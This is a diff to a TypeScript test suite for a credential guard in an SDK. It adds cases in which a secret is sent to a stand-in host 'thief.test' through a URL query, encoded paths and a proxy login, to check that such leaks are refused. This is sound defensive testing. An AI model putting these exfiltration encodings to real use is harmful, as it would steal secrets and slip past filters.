@@ -4,7 +4,9 @@ import type { HttpClient, HttpDestination, HttpRequest } from '@sluice/node-sdk'
 import { HandedOutCredentials, type HostChecks } from './handed-out-credentials.ts';
 
 const { signal } = new AbortController();
-const secret = 'p@ss word/1';
+const secret = 'p@ss word/1&x';
+
+const withPassword = (url: string, password: string) => Object.assign(new URL(url), { username: 'ann', password }).href;
 
 /** Allows one origin only. */
 const only = (origin: string): HostChecks => {
@@ -59,6 +61,9 @@ async function refusal(request: Partial<HttpRequest>, held = [only('https://home
 describe('finding 6: a secret that a node puts into a request', () => {
   test.each<[string, Partial<HttpRequest>]>([
     ['the URL', { url: `https://thief.test/?k=${encodeURIComponent(secret)}` }],
+    ['the URL, partly encoded', { url: encodeURI(`https://thief.test/?k=${secret}`) }],
+    ['the path, encoded in full', { url: `https://thief.test/${Buffer.from(secret).toString('hex').replace(/../g, '%$&')}` }],
+    ['the login of a proxy', { proxy: withPassword('http://proxy.test', secret) }],
     ['a header', { headers: { 'x-key': `Token ${secret}` } }],
     ['a list of headers', { headers: { 'x-key': ['a', secret] } }],
     ['the name of a header', { headers: { [encodeURIComponent(secret)]: '1' } }],
